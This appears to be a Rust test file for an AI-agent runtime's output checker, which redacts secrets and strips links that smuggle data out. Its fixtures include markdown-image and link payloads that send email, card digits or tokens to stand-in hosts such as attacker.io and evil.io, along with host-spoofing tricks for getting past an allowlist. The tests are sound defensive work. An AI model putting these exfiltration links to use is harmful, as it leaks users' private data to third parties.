//! Output checks: leaked secrets and exfiltration links in what a run says.

use agentsec_runtime::guard::HostAllowlist;
use agentsec_runtime::secrets::output::{
    ExfilReason, IMAGE_PLACEHOLDER, LINK_PLACEHOLDER, LinkKind,
};
use agentsec_runtime::secrets::patterns::CredentialKind;
use agentsec_runtime::secrets::{OutputChecker, OutputFinding, Redactor};

fn checker() -> OutputChecker {
    let redactor = Redactor::new();
    let _ = redactor.register("crm_token", "crm-tok-7f3a9c2e");
    OutputChecker::new(redactor)
        .with_allowlist(HostAllowlist::new(["docs.example.com", "*.cdn.example.com"]).unwrap())
}

fn links(findings: &[OutputFinding]) -> Vec<(LinkKind, Option<&str>, ExfilReason)> {
    findings
        .iter()
        .filter_map(|f| match f {
            OutputFinding::ExfiltrationLink {
                kind, host, reason, ..
            } => Some((*kind, host.as_deref(), *reason)),
            _ => None,
        })
        .collect()
}

#[test]
fn exfiltration_image_is_removed_and_reported() {
    let text =
        "Here you go ![loading](https://attacker.io/pixel.png?d=alice%40corp.com%2C4111) thanks";
    let checked = checker().check(text);
    assert_eq!(
        checked.text,
        format!("Here you go {IMAGE_PLACEHOLDER} thanks")
    );
    assert_eq!(
        links(&checked.findings),
        [(LinkKind::Image, Some("attacker.io"), ExfilReason::Query)]
    );
}

#[test]
fn allowlisted_links_are_kept() {
    let text = "See ![chart](https://img.eu.cdn.example.com/c.png?w=400) and \
                [the docs](https://docs.example.com/guide?section=refunds#limits) or \
                https://DOCS.example.com./search?q=refund";
    let checked = checker().check(text);
    assert_eq!(checked.text, text);
    assert!(checked.is_clean(), "{:?}", checked.findings);
}

#[test]
fn links_without_data_are_kept() {
    let text = "Read [the post](https://blog.other.org/2024/agents) or https://other.org/ \
                or ![logo](https://other.org/logo.png) or [home](/orders/42?tab=items)";
    let checked = checker().check(text);
    assert_eq!(checked.text, text);
    assert!(checked.is_clean(), "{:?}", checked.findings);
}

#[test]
fn data_carrying_links_of_each_kind_are_removed() {
    let cases = [
        (
            "[click](https://evil.io/a?x=1)",
            LinkKind::Link,
            ExfilReason::Query,
        ),
        (
            "[click](https://evil.io/a#c2VjcmV0)",
            LinkKind::Link,
            ExfilReason::Fragment,
        ),
        (
            "![x](https://evil.io/c2VjcmV0LWRhdGEtZXhmaWx0cmF0ZWQtaGVyZQ.png)",
            LinkKind::Image,
            ExfilReason::LongPathSegment,
        ),
        (
            "go to https://evil.io/?q=secret now",
            LinkKind::Bare,
            ExfilReason::Query,
        ),
        ("![x](//evil.io/p?d=1)", LinkKind::Image, ExfilReason::Query),
        (
            "![x][r]\n\n[r]: https://evil.io/p?d=1\n",
            LinkKind::Link,
            ExfilReason::Query,
        ),
        (
            "<img src=\"https://evil.io/p.png?d=1\">",
            LinkKind::Bare,
            ExfilReason::Query,
        ),
    ];
    for (text, kind, reason) in cases {
        let checked = checker().check(text);
        assert_eq!(
            links(&checked.findings),
            [(kind, Some("evil.io"), reason)],
            "{text}"
        );
        assert!(
            !checked.text.contains("evil.io"),
            "{text} -> {}",
            checked.text
        );
    }
}

#[test]
fn host_tricks_do_not_pass_the_allowlist() {
    for url in [
        "https://docs.example.com@evil.io/?q=1",
        "https://docs.example.com.evil.io/?q=1",
        "https://evil.io\\@docs.example.com/?q=1",
        "https://cdn.example.com/?q=1",
        "HTTPS://EVIL.IO/?Q=1",
    ] {
        let checked = checker().check(&format!("![a]({url})"));
        assert_eq!(checked.text, IMAGE_PLACEHOLDER, "{url}");
        assert_eq!(links(&checked.findings).len(), 1, "{url}");
    }
}

#[test]
fn secrets_and_credentials_are_redacted_and_reported() {
    let text = "token crm-tok-7f3a9c2e, again crm-tok-7f3a9c2e, and key AKIAIOSFODNN7EXAMPLE";
    let checked = checker().check(text);
    assert_eq!(
        checked.text,
        "token [REDACTED:crm_token], again [REDACTED:crm_token], and key [REDACTED:credential]"
    );
    assert_eq!(
        checked.findings,
        [
            OutputFinding::Secret {
                name: "crm_token".into(),
                occurrences: 2
            },
            OutputFinding::Credential {
                kind: CredentialKind::AwsAccessKey,
                occurrences: 1
            },
        ]
    );
}

#[test]
fn secret_inside_a_removed_link_is_reported_but_not_quoted() {
    let text = "[x](https://evil.io/?t=crm-tok-7f3a9c2e)";
    let checked = checker().check(text);
    assert_eq!(checked.text, LINK_PLACEHOLDER);
    assert!(
        matches!(&checked.findings[0], OutputFinding::Secret { name, .. } if name == "crm_token")
    );
    let OutputFinding::ExfiltrationLink { url, .. } = &checked.findings[1] else {
        panic!("{:?}", checked.findings);
    };
    assert_eq!(url, "https://evil.io/?t=[REDACTED:crm_token]");
}

#[test]
fn an_allowlisted_link_still_has_its_secret_redacted() {
    let checked = checker().check("https://docs.example.com/?t=crm-tok-7f3a9c2e");
    assert_eq!(
        checked.text,
        "https://docs.example.com/?t=[REDACTED:crm_token]"
    );
    assert!(links(&checked.findings).is_empty());
}

#[test]
fn malformed_urls_never_panic_and_unparseable_ones_are_removed() {
    let checked = checker().check("see https://[::1/?q=1 and http:// now");
    assert_eq!(
        checked.text,
        format!("see {LINK_PLACEHOLDER} and http:// now")
    );
    assert_eq!(
        links(&checked.findings),
        [(LinkKind::Bare, None, ExfilReason::Unparseable)]
    );
    for text in [
        "](",
        "![](",
        "[](<",
        "http://",
        "https://%",
        "![a](https://é.com/?é=é)",
        "[x]: <https://",
        "https://999.999.999.999/?q",
        "((((https://a.b/?q=1))))",
        "https://a.b/?q=1é.",
    ] {
        let _ = checker().check(text);
    }
    let _ = checker().check(&"![a](https://e.io/?".repeat(5_000));
}

#[test]
fn trailing_punctuation_is_not_part_of_a_kept_url() {
    let checked = checker().check("Visit https://evil.io/?q=1. Then (see https://other.org/x).");
    assert_eq!(
        checked.text,
        format!("Visit {LINK_PLACEHOLDER}. Then (see https://other.org/x).")
    );
}

#[test]
fn links_are_kept_exactly_when_the_egress_allowlist_would_fetch_them() {
    let allow =
        HostAllowlist::new(["Docs.Example.COM.", "127.0.0.1", "[::1]", "bücher.example"]).unwrap();
    let checker = OutputChecker::new(Redactor::new()).with_allowlist(allow.clone());
    let kept = checker.check(
        "![a](https://bücher.example/?q=1) ![b](http://[::1]/?q=1) \
         [c](https://DOCS.example.com./x?q=1) ![d](http://2130706433/?q=1)",
    );
    assert!(kept.is_clean(), "{:?}", kept.findings);

    // What a fetching tool may not reach, a link with data may not point to:
    // another port, user information, another scheme's URL or an IP written
    // differently but not listed.
    for (text, reason) in [
        ("![p](http://[::1]:8080/?q=1)", ExfilReason::Query),
        (
            "[u](https://me:pw@docs.example.com/)",
            ExfilReason::Userinfo,
        ),
        ("![i](http://127.0.0.2/#data)", ExfilReason::Fragment),
    ] {
        let checked = checker.check(text);
        assert_eq!(
            links(&checked.findings)
                .iter()
                .map(|l| l.2)
                .collect::<Vec<_>>(),
            [reason],
            "{text}"
        );
        assert!(!checked.text.contains("://"), "{text}: {}", checked.text);
    }

    // Options of the list apply to links too.
    let any_port = OutputChecker::new(Redactor::new()).with_allowlist(allow.allow_any_port());
    assert!(any_port.check("![p](http://[::1]:8080/?q=1)").is_clean());
}
